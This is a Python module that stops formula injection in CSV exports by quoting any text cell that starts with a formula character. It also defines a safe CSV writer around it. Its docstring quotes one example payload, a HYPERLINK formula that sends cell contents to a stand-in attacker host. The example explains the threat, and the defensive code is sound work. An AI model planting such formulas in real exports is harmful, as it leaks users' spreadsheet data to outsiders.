"""Cells for files opened in a spreadsheet: text that cannot turn into a formula.

Excel and LibreOffice treat a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula (``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` leaks the
sheet when clicked). OWASP's advice: prefix such text with a single quote, which the
spreadsheet shows as text. Numbers stay numbers (a negative count is not text). Every CSV the
product writes goes through ``writer``; XLSX cells are written with ``write_string``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet reads it safely: text that would start a formula gets a quote."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` whose every row is neutralised by ``safe_cell``."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        options.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    """The only way the product writes CSV (tests/test_exports_safety.py checks no other exists)."""
    return SafeWriter(out, **options)
